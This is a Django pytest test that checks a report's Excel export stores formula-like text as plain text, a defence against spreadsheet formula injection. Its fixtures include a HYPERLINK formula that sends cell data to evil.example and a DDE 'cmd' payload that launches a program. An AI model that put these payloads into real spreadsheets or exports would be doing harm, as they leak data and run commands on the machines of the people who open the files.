"""The report workbook writes reporter text that looks like a formula as text (indicators/exporting/cells.py)."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reports.models import AgencyReport, IndicatorEntry, TaskEntry

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def test_report_workbook_has_no_formula(client, report_a, reporter_a):
    IndicatorEntry.objects.filter(report=report_a).update(note=ATTACK, source="@SUM(A1:A9)")
    TaskEntry.objects.filter(report=report_a).update(done="+1+cmd|' /C calc'!A0")
    AgencyReport.objects.filter(pk=report_a.pk).update(achievements="-2+3+cmd")
    client.force_login(reporter_a)
    response = client.get(reverse("reports:excel_download", args=[report_a.pk]))
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert {ATTACK, "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3+cmd"} <= values
